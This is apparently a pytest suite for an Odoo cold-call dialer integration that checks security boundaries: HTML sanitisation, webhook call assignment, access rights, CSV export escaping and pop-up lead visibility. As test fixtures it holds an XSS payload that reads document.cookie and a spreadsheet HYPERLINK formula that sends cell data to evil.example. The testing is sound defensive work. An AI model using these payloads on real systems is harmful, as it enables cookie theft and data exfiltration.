"""The trust boundary where it crosses HTTP, JSON-RPC and the websocket (docs/SECURITY.md): what
one user types or owns reaches no other user's browser or calls, whatever way it comes in."""

import csv
import io
import random
import time
import uuid

import pytest
from mcube import configure_token, create_user, event, post, wait_for_drain
from test_access import _refusal, _uid
from test_live_bus import Listener

SCRIPT = '<p>Hello</p><img src="x" onerror="alert(document.cookie)"><script>alert(1)</script>'
REP = ["base.group_partner_manager", "sales_team.group_sale_salesman", "cold_call_dialer.group_cold_call_user"]


@pytest.fixture(scope="module")
def admin(odoo_server):
    return odoo_server.session()


def test_a_template_body_reaches_the_reps_screen_sanitized(odoo_server, admin):
    editor = create_user(admin, ["base.group_user", "mail.group_mail_template_editor"])
    rep = create_user(admin, REP)
    template = admin.call("ir.model.data", "check_object_reference", "cold_call_dialer", "mail_template_thanks")[1]
    editor_rpc = odoo_server.session(editor, editor)
    editor_rpc.call("mail.template", "write", [template], {"body_html": SCRIPT})
    offer = _refusal(editor_rpc, "mail.template", "write", [template], {"cold_call_dialer": False})
    assert offer and "Dialer administrators" in offer[1]
    contact = admin.call(
        "res.partner", "create", {"name": "Trust contact", "email": "t@example.com", "phone": "9845011111"}
    )
    body = odoo_server.session(rep, rep).call("cold.call.dialer", "preview_mail", contact, template)["body"]
    assert "Hello" in body and "onerror" not in body and "<script" not in body


def test_a_phone_a_rep_types_takes_no_call_from_the_webhook(odoo_server, admin):
    token = configure_token(admin)
    agent = f"91{random.randint(10**7, 10**8 - 1)}"
    claimer = create_user(admin, ["sales_team.group_sale_salesman"])
    rpc = odoo_server.session(claimer, claimer)
    partner = rpc.call("res.users", "read", [_uid(admin, claimer)], ["partner_id"])[0]["partner_id"][0]
    rpc.call("res.partner", "write", [partner], {"phone": f"+91{agent}"})
    callid = f"TRUST-{uuid.uuid4().hex[:8]}"
    assert post(odoo_server.url, token, event(callid, did="8000000001", emp_phone=agent)).status_code == 202
    assert not wait_for_drain(admin).get("pending")
    [record] = admin.call("mcube.call.record", "search_read", [("call_id", "=", callid)], ["user_id"])
    assert not record["user_id"] or record["user_id"][0] != _uid(admin, claimer)
    assert not rpc.call("mcube.call.record", "search", [("call_id", "=", callid)])


def test_reps_cannot_rewrite_the_call_history_and_other_companies_cannot_move_numbers(odoo_server, admin):
    rep = create_user(admin, REP)
    contact = admin.call("res.partner", "create", {"name": "History contact", "phone": "9845022222"})
    rpc = odoo_server.session(rep, rep)
    refused = _refusal(rpc, "res.partner", "write", [contact], {"cold_call_next_at": "2099-01-01 00:00:00"})
    assert refused and refused[0] == "odoo.exceptions.AccessError"
    assert not admin.call("res.partner", "read", [contact], ["cold_call_next_at"])[0]["cold_call_next_at"]

    other = admin.call("res.company", "create", {"name": f"Trust B {uuid.uuid4().hex[:6]}"})
    manager_b = create_user(admin, ["sales_team.group_sale_manager"], company_id=other, company_ids=[(6, 0, [other])])
    owner = create_user(admin, ["sales_team.group_sale_salesman"])
    refused = _refusal(
        odoo_server.session(manager_b, manager_b),
        "res.users",
        "write",
        [_uid(admin, owner)],
        {"mcube_virtual_number": "8011112233"},
    )
    assert refused and "your companies" in refused[1]


def test_an_exported_csv_opens_as_data(odoo_server, admin):
    rep = create_user(admin, REP)
    name = '=HYPERLINK("https://evil.example/?"&B2,"x")'
    contact = admin.call("res.partner", "create", {"name": name, "phone": "9845033333"})
    odoo_server.session(rep, rep).call(
        "cold.call.dialer", "log_call", contact, status="voicemail", list_key="never_called"
    )
    wizard = admin.call("cold.call.log.export", "create", {"file_format": "csv"})
    answer = admin.http.get(f"{odoo_server.url}/cold_call_dialer/export_calls/{wizard}", timeout=60)
    assert answer.status_code == 200, answer.text
    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + name in cells and name not in cells


def test_the_pop_up_names_no_lead_its_salesperson_may_not_read(odoo_server, admin):
    token = configure_token(admin)
    did = f"80{random.randint(10**7, 10**8 - 1)}"
    owner = create_user(admin, ["sales_team.group_sale_salesman"], mcube_virtual_number=did)
    number = f"98{random.randint(10**7, 10**8 - 1)}"
    someone = create_user(admin, ["sales_team.group_sale_salesman"])
    admin.call("crm.lead", "create", {"name": "Someone else's deal", "phone": number, "user_id": _uid(admin, someone)})
    listener = Listener(odoo_server, owner)
    try:
        assert (
            post(
                odoo_server.url, token, event(f"POP-{uuid.uuid4().hex[:8]}", phase="start", did=did, number=number)
            ).status_code
            == 202
        )
        deadline = time.monotonic() + 10
        while not listener.of_type("mcube_integration/incoming_call") and time.monotonic() < deadline:
            time.sleep(0.2)
        [(_at, payload)] = listener.of_type("mcube_integration/incoming_call")
    finally:
        listener.close()
    assert payload["number"] == f"+91{number}" and payload["lead"] is False
